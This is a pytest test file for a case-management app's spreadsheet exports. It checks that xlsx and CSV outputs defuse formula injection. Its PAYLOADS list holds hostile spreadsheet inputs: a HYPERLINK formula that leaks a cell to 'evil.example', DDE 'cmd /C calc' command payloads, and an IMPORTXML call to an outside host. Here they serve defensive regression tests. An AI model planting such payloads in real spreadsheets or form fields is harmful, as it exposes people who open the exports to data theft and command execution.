"""Exports write resident text as text: no cell of any xlsx export is a formula, and
CSV cells that a spreadsheet would evaluate start with a quote."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from govflow.spreadsheet import FORMULA_LEADS

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=IMPORTXML("http://x","//a")']


def _start_cases(web_app):
    from govflow.database import commit, writing
    from govflow.instances.service import start_instance
    with web_app.app_context(), writing():
        for n, text in enumerate(PAYLOADS):
            start_instance("web_case", "grid_yg_1", {"title": text, "category": "road", "description": text,
                                                     "reporter_name": text, "reporter_phone": text,
                                                     "location": text}, business_key=f"BK-F{n}")
        commit()


def _no_formulas(body: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(body))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


@pytest.mark.parametrize("user", ["admin", "supervisor"])
def test_ledger_xlsx_has_no_formula_cells(web_app, page_as, user):
    _start_cases(web_app)
    response = page_as(user).get("/admin/instances?format=xlsx")
    values = _no_formulas(response.data)
    if user == "admin":  # the text is kept as the resident wrote it, as text
        assert PAYLOADS[0] in values and "=cmd|' /C calc'!A0" in values


@pytest.mark.parametrize("user", ["admin", "supervisor"])
def test_ledger_csv_cells_are_defused(web_app, page_as, user):
    _start_cases(web_app)
    body = page_as(user).get("/admin/instances?format=csv").data.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_LEADS)]
    if user == "admin":
        assert "'" + PAYLOADS[0] in cells


def test_ledger_export_over_rest_and_statistics_exports(web_app, tokens):
    _start_cases(web_app)
    client = web_app.test_client()
    headers = {"Authorization": f"Bearer {tokens['admin']}"}
    _no_formulas(client.get("/api/v1/admin/instances/export?format=xlsx", headers=headers).data)
    body = client.get("/api/v1/admin/instances/export?format=csv", headers=headers).data.decode("utf-8-sig")
    assert not [c for row in csv.reader(io.StringIO(body)) for c in row if c.startswith(FORMULA_LEADS)]
    _no_formulas(client.get("/api/v1/admin/statistics?format=xlsx", headers=headers).data)


def test_the_statistics_writers_defuse_labels():
    from govflow.admin.exports import statistics_csv, statistics_xlsx
    sheets = [("按社区", ["社区", "案件数"], [[p, 1] for p in PAYLOADS])]
    values = _no_formulas(statistics_xlsx(sheets))
    assert PAYLOADS[1] in values
    cells = [c for row in csv.reader(io.StringIO(statistics_csv(sheets).decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]


def test_the_import_report_keeps_rejected_text_as_text():
    from govflow.organisation.sheets import report_xlsx
    rows = [{"sheet": p, "row": 2, "column": "name", "reason": p, "value": p} for p in PAYLOADS]
    _no_formulas(report_xlsx(rows))
